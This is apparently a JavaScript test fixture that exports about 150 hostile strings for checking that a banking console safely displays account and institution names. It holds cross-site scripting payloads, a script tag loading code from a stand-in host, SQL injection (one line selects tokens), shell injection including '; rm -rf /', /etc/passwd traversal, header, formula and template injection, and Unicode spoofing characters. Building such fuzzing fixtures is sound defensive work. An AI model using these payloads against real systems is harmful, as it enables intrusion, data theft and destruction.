// About 150 texts that a bank, or somebody who pays through one, might send to break a page.

const repeated = (text, times) => text.repeat(times);

const MARKUP = [
  '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script src=https://elsewhere.example/x.js></script>', '</script><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script >alert(1)</script >', '<script\n>alert(1)</script>', '<img src=x onerror=alert(1)>',
  '<img src="https://elsewhere.example/p.png">', '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<math><mtext><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data="javascript:alert(1)">', '<embed src="https://elsewhere.example/">',
  '<link rel=stylesheet href=https://elsewhere.example/x.css>', '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">', '<base href="https://elsewhere.example/">', '<form action=https://elsewhere.example/><input name=q>',
  '<a href="javascript:alert(1)">free money</a>', '<a href=https://elsewhere.example/ target=_blank>click</a>', '<b>bold</b>', '<h1>Log in again</h1>',
  '<plaintext>', '<textarea>', '</textarea><b>x</b>', '</title><script>alert(1)</script>', '<title>Other</title>', '<style>*{display:none}</style>', '</style><script>alert(1)</script>',
  '<body onload=alert(1)>', '<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--', '-->', '<!-- x --><b>y</b>', '<![CDATA[<b>x</b>]]>', '<?xml version="1.0"?>', '<!DOCTYPE html>',
  '</div></main></body>', '</option></select><b>x</b>', '</td></tr></table><b>x</b>', '</bdi></p><b>x</b>', '<option selected>Assets:Cash', '<dialog open>x</dialog>', '<button autofocus onfocus=alert(1)>',
  '<input autofocus onfocus=alert(1)>', '<select onfocus=alert(1) autofocus>', '<xss onpointerenter=alert(1)>', '<x contenteditable onblur=alert(1)>y', '<img/src/onerror=alert(1)>', '<<b>>x<</b>>', '<b', 'b>', '<', '>',
];

const ATTRIBUTES = [
  '" onmouseover="alert(1)', "' onmouseover='alert(1)", '` onmouseover=`alert(1)', '" autofocus onfocus="alert(1)', 'x" style="position:fixed;inset:0', '" id="main', '" class="hidden', '" aria-hidden="true', '"/><script>alert(1)</script>',
  '"', "'", '`', '\\', '\\"', "\\'", '="', 'a=b&c=d',
];

const ADDRESSES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'https://elsewhere.example/log-in', '//elsewhere.example/', 'file:///etc/passwd',
  '../../../../etc/passwd', '#/connections', '?link=lks_1', 'mailto:a@elsewhere.example', 'http://127.0.0.1:1/', '%2e%2e%2f', '%3Cscript%3Ealert(1)%3C/script%3E', '%00', 'feed:javascript:alert(1)',
];

const ENTITIES = [
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;', '&#x3c;b&#x3e;', '&amp;lt;b&amp;gt;', '&nbsp;', '&quot; onclick=&quot;alert(1)', '&notit;', '&#0;', '&#xD800;', '&', '&copy', '\\u003cb\\u003e', '\\x3cb\\x3e', '+ADw-script+AD4-',
];

const CODE = [
  '${alert(1)}', '#{alert(1)}', '{{constructor.constructor("alert(1)")()}}', '{{7*7}}', '<%= 7*7 %>', '{% include "x" %}', '{institution}', '{count}', '{problem} {name}', '%s %d %n', '$1 $& $$', '__proto__', 'constructor', 'hasOwnProperty', 'toString', 'null', 'undefined', 'NaN', '[object Object]',
  "'; DROP TABLE bank_account; --", '1 OR 1=1', "Robert'); DELETE FROM inbox;--", 'x\' UNION SELECT token FROM connection--', ';', '--', '/* x */', '{"a":1}', '[]', '";alert(1);//', "');alert(1)//", '*{color:red}', 'expression(alert(1))', 'url(https://elsewhere.example/)', '@import "https://elsewhere.example/"', '}body{display:none}',
  '=1+1', '=HYPERLINK("https://elsewhere.example/","x")', '+1', '-1', '@SUM(A1)', '|calc', '`id`', '$(id)', '; rm -rf /', '\n\nSet-Cookie: a=b', '\r\nLocation: https://elsewhere.example/', '; comment', '2026-01-01 * "x"\n  Assets:Cash  1 USD',
];

const LETTERS = [
  '\u202egnp.exe', 'a\u202eb\u202cc', '\u2066\u2067x\u2069', '\u200f\u200ex', '\u061cx', 'a\u200bb\u200cc\u200dd', '\ufeffx', 'a\u2028b\u2029c', 'a\u00adb', '\u2060x\u2063', '\u3164', '\u115fx', '\u{e0001}\u{e0041}\u{e007f}x', '\ufff9a\ufffab\ufffb',
  'a\u0000b', 'a\u0008b', 'a\u001b[31mred\u001b[0m', 'a\u007fb', 'a\u0085b', 'a\tb', 'a\u00a0b', 'e\u0301', repeated('Z\u0321\u0322\u0327\u0334\u0353', 12), 'x' + repeated('\u0301', 120),
  '\u05d7\u05e9\u05d1\u05d5\u05df', '\u062d\u0633\u0627\u0628 \u062c\u0627\u0631\u064a', 'abc \u05d0\u05d1\u05d2 123 def', '\u0915\u094d\u0937\u093f', '\u6d3b\u671f\u8d26\u6237', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\u{1f1e9}\u{1f1ea}\u{1f1fa}\u{1f1f8}', '\u{1f44d}\u{1f3fd}', '\u{1f600}'.repeat(80), '\ufffd', '\uffff', '\u{10ffff}', '\ufdfd'.repeat(40), '\u{12031}'.repeat(20),
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '\u02bcx\u02bc', '\u2039b\u203a', '\u0430\u0440\u0440\u04cf\u0435',
];

const LONG = [
  repeated('W', 400), repeated('long words ', 60), repeated('<b>', 120), repeated('i', 5_000), repeated('\u6d3b', 400), repeated('a-', 300), repeated('Assets:', 60), repeated('&amp;', 100), `${repeated('x', 199)}<b>`, `${repeated('x', 255)}\u{1f600}`, repeated('\u202e', 300), repeated('/', 300), repeated('1234567890', 40),
];

const all = [...MARKUP, ...ATTRIBUTES, ...ADDRESSES, ...ENTITIES, ...CODE, ...LETTERS, ...LONG];

/** Each with a number behind it, so that no two are alike: the names of two accounts decide what the console says of both. */
export const payloads = all.map((text, i) => (text.length > 180 ? `${i} ${text}` : `${text} ${i}`));

/** As many texts that do no harm. */
export const harmless = all.map((_, i) => `Harmless ${i}`);
